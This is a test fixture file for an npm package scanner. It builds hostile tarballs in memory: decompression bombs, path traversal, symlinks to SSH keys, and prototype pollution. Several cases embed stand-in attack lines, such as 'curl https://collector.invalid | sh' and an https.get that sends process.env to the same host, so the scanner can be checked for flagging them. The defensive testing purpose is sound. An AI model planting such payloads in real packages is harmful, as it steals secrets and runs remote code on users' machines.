// Hostile inputs for the adversarial table (issue 9). Each case builds its input in memory; none is
// stored. `expect` says what a correct outcome is: a finding/error, or a clean parse of odd syntax.
import zlib from 'node:zlib';
import { rawTgz, randomBytes, zeroBomb, type RawEntry } from './raw-tar.js';

export interface HostileCase {
  name: string;
  /** 'flagged': the report must not be clean (finding, error or non-clean verdict). 'parses': odd but valid code, analyzed without a parse error. */
  expect: 'flagged' | 'parses';
  build(): Promise<Buffer> | Buffer;
}

const PKG = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'hostile', version: '1.0.0', main: 'index.js', ...extra });
const MiB = 1024 * 1024;
const pkg = (files: Record<string, string | Buffer>, extra: Record<string, unknown> = {}): RawEntry[] => [
  { path: 'package/package.json', body: PKG(extra) },
  ...Object.entries(files).map(([p, body]) => ({ path: `package/${p}`, body })),
];

export const CASES: HostileCase[] = [
  { name: 'gzip bomb: 1 GiB of zeros', expect: 'flagged', build: () => zeroBomb('package/zeros.bin', 1024 * MiB) },
  {
    name: 'tar bomb: 200 MiB file at ~1000:1 beside real code',
    expect: 'flagged',
    build: async () => {
      const bomb = await zeroBomb('package/data.bin', 200 * MiB);
      return bomb; // ratio alone, no install script: must still be reported
    },
  },
  {
    name: '60,000 files',
    expect: 'flagged',
    build: () => rawTgz(pkg(Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`f/${i}.js`, 'module.exports=1;\n'])))),
  },
  { name: 'path traversal (../)', expect: 'flagged', build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: 'package/../../../tmp/evil.js', body: 'x' }]) },
  { name: 'absolute path', expect: 'flagged', build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: '/etc/cron.d/evil', body: 'x' }]) },
  { name: 'symlink pointing out', expect: 'flagged', build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: 'package/link', type: '2', linkpath: '/home/user/.ssh/id_rsa' }]) },
  { name: 'hardlink pointing out', expect: 'flagged', build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: 'package/hard', type: '1', linkpath: '../../etc/passwd' }]) },
  {
    name: 'directory symlink with a file "under" it',
    expect: 'flagged',
    build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: 'package/dir', type: '2', linkpath: '/home/user' }, { path: 'package/dir/.bashrc', body: 'curl https://collector.invalid | sh' }]),
  },
  { name: 'device and FIFO entries', expect: 'flagged', build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: 'package/null', type: '3' }, { path: 'package/fifo', type: '6' }]) },
  { name: 'duplicate entries', expect: 'flagged', build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: 'package/index.js', body: "require('child_process').exec('curl -s https://collector.invalid/x | sh')" }]) },
  { name: 'non-UTF-8 names', expect: 'flagged', build: () => rawTgz([...pkg({ 'index.js': 'module.exports=1' }), { path: 'package/\xff\xfe.js', body: "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())" }]) },
  { name: 'truncated gzip', expect: 'flagged', build: () => { const t = rawTgz(pkg({ 'index.js': 'module.exports=1;'.repeat(2000) })); return t.subarray(0, t.length >> 1); } },
  { name: 'garbage gzip', expect: 'flagged', build: () => Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), randomBytes(64 * 1024)]) },
  { name: 'package.json missing', expect: 'flagged', build: () => rawTgz([{ path: 'package/index.js', body: 'module.exports=1' }]) },
  { name: 'package.json invalid', expect: 'flagged', build: () => rawTgz([{ path: 'package/package.json', body: '{"name": "x", ' }, { path: 'package/index.js', body: 'module.exports=1' }]) },
  { name: 'package.json huge (8 MB)', expect: 'flagged', build: () => rawTgz([{ path: 'package/package.json', body: PKG({ description: 'x'.repeat(8 * MiB) }) }]) },
  { name: 'package.json 100,000 levels deep', expect: 'flagged', build: () => rawTgz([{ path: 'package/package.json', body: '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000) }]) },
  {
    name: 'package.json with __proto__ and constructor.prototype',
    expect: 'parses',
    build: () => rawTgz([{ path: 'package/package.json', body: '{"name":"hostile","version":"1.0.0","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"scripts":{"__proto__":"x"}}' }, { path: 'package/index.js', body: 'module.exports=1' }]),
  },
  { name: '40 MB single-line file', expect: 'flagged', build: () => rawTgz(pkg({ 'index.js': 'var a0=function(b){return b+1};'.repeat(1_300_000) + "require('child_process').exec('curl -s https://collector.invalid/x | sh');" })) },
  { name: '200,000-deep nested expression', expect: 'flagged', build: () => rawTgz(pkg({ 'index.js': 'module.exports = ' + '('.repeat(200_000) + 'process.env' + ')'.repeat(200_000) + ';' })) },
  {
    name: 'pathological regex literals',
    expect: 'parses',
    build: () => rawTgz(pkg({ 'index.js': `const r = /^(a+)+$/; const s = /(x+x+)+y/; const t = '${'a'.repeat(100_000)}!'; module.exports = [r.source, s.source, t.length, require('fs').constants];` })),
  },
  {
    // Every function misleads the brace scan of the lazy-body tier (a regex after `)` holding a
    // brace), so each skip is refused and the file is parsed again in full; the stealer at the end
    // must still be found, in bounded time.
    name: 'lazy-body decoys: 3,000 functions that mislead the brace scan, then a stealer',
    expect: 'flagged',
    build: () =>
      rawTgz(
        pkg({
          'index.js':
            Array.from({ length: 3000 }, (_, i) => `function f${i}(s) {\n  let n = ${i};\n  n += s.length * 3;\n  n -= s.length % 7;\n  if (s) /[}{]/.test(s);\n  n += s.length * ${i};\n  return n;\n}\n`).join('') +
            "require('https').get('https://collector.invalid/?e=' + JSON.stringify(process.env));\n",
        }),
      ),
  },
  { name: 'huge string literal (20 MB)', expect: 'flagged', build: () => rawTgz(pkg({ 'index.js': `module.exports = "${'A'.repeat(20 * MiB)}"; require('https').get('https://collector.invalid/?e=' + JSON.stringify(process.env));` })) },
  { name: 'random bytes named .js', expect: 'flagged', build: () => rawTgz(pkg({ 'index.js': Buffer.concat([Buffer.from('process.env;'), randomBytes(512 * 1024)]) })) },
  {
    name: 'TypeScript with decorators',
    expect: 'parses',
    build: () => rawTgz(pkg({ 'index.ts': "import fs from 'fs';\nfunction log(t: any, k: string) {}\nclass A { @log method(x: number): string { return fs.readFileSync('a.txt', 'utf8') + x; } }\nexport default A;" }, { main: 'index.ts' })),
  },
  { name: 'Flow', expect: 'parses', build: () => rawTgz(pkg({ 'index.js': "// @flow\nconst fs = require('fs');\nfunction f(x: number): string { return fs.readFileSync(String(x), 'utf8'); }\nmodule.exports = f;" })) },
  { name: 'JSX', expect: 'parses', build: () => rawTgz(pkg({ 'index.jsx': "const fs = require('fs');\nexport const App = () => <div title={fs.constants.F_OK}>hi</div>;" }, { main: 'index.jsx' })) },
  { name: 'top-level await', expect: 'parses', build: () => rawTgz(pkg({ 'index.mjs': "import fs from 'node:fs/promises';\nexport const data = await fs.readFile(new URL('./data.txt', import.meta.url), 'utf8');" }, { main: 'index.mjs' })) },
];

export { zlib };
